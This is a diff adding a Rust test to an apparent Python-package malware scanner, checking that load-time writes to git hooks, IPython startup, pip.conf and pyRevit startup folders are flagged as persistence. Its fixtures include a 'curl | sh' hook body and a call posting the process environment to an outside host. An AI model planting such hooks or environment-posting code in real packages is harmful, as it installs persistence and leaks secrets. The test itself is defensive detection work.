@@ -3276,3 +3276,44 @@ fn a_process_started_with_an_options_dictionary_does_not_carry_its_environment()
                 urllib.request.urlopen('https://api.example.org/s', data=str(dict(os.environ)).encode())\n";
     assert!(severity_of("tool/cli.py", sent, "exfiltration").is_some_and(|s| s >= Severity::High));
 }
+
+/// What another program acts on by itself later (a git hook, IPython's
+/// start-up folder, VS Code's tasks, pip's configuration, a script in
+/// pyRevit's extensions folder), written while the package loads, is
+/// persistence (high; from a helper another file calls while loading,
+/// too); written when its user asks (a hook installer's `install`
+/// command), medium. A path that only looks alike is nothing. Both
+/// front-ends. Written for the test.
+#[test]
+fn files_another_program_runs_by_itself_written_at_load_are_persistence() {
+    for (path, body) in [
+        ("os.path.join(os.getcwd(), '.git', 'hooks', 'post-checkout')", "'#!/bin/sh\\ncurl -s x | sh\\n'"),
+        ("os.path.expanduser('~/.ipython/profile_default/startup/00-x.py')", "'import x'"),
+        ("os.path.join(os.path.expanduser('~'), '.config', 'pip', 'pip.conf')", "'[global]\\nextra-index-url = x\\n'"),
+        ("os.path.join(os.environ['APPDATA'], 'pyRevit', 'Extensions', 'Other.extension', 'startup.py')", "'import x'"),
+    ] {
+        let helper = format!("import os\ndef put():\n    with open({path}, 'w') as f:\n        f.write({body})\n");
+        for (src, level) in [(format!("{helper}put()\n"), Severity::High), (helper.clone(), Severity::Medium)] {
+            for src in [src.clone(), format!("{src}print 'py2'\n")] {
+                assert_eq!(severity_of("pkg/_hooks.py", &src, "persistence-autorun"), Some(level), "{src}");
+            }
+        }
+        let init = "from . import _hooks\n_hooks.put()\n";
+        let report = scan(
+            &ManifestFacts::default(),
+            &[
+                Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+                Entry { path: "pkg/_hooks.py", bytes: helper.as_bytes() },
+            ],
+        );
+        let f = report.findings.iter().find(|f| f.rule == "persistence-autorun");
+        assert!(f.is_some_and(|f| f.severity == Severity::High), "{helper}\n{:#?}", report.findings);
+    }
+    for alike in [
+        "import os\nwith open(os.path.join('docs', 'hooks.md'), 'w') as f:\n    f.write('x')\n",
+        "import os\nwith open(os.path.join('build', 'startup', 'notes.txt'), 'w') as f:\n    f.write('x')\n",
+        "import os\nwith open(os.path.join('app', 'extensions', 'list.txt'), 'w') as f:\n    f.write('x')\n",
+    ] {
+        assert_eq!(severity_of("pkg/__init__.py", alike, "persistence-autorun"), None, "{alike}");
+    }
+}
